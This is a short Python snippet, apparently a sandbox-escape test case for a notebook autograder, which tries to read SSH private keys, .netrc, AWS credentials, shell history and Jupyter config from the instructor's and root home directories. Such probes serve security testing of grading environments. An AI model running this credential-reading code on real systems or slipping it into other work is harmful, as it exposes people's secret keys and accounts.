# what: reads what belongs to the instructor's home
# points: 20
# mistakes: flag: rules
# %% extra after update_parameters_with_adam
#: won
from pathlib import Path
import os, pwd
for home in {"@HOME@", "/root", os.path.expanduser("~"), pwd.getpwuid(os.getuid()).pw_dir}:
    for name in (".ssh/id_rsa", ".netrc", ".aws/credentials", ".bash_history", "secret.txt", ".jupyter/jupyter_server_config.json"):
        try:
            won("read", (Path(home) / name).read_text())
        except OSError as error:
            print(error)
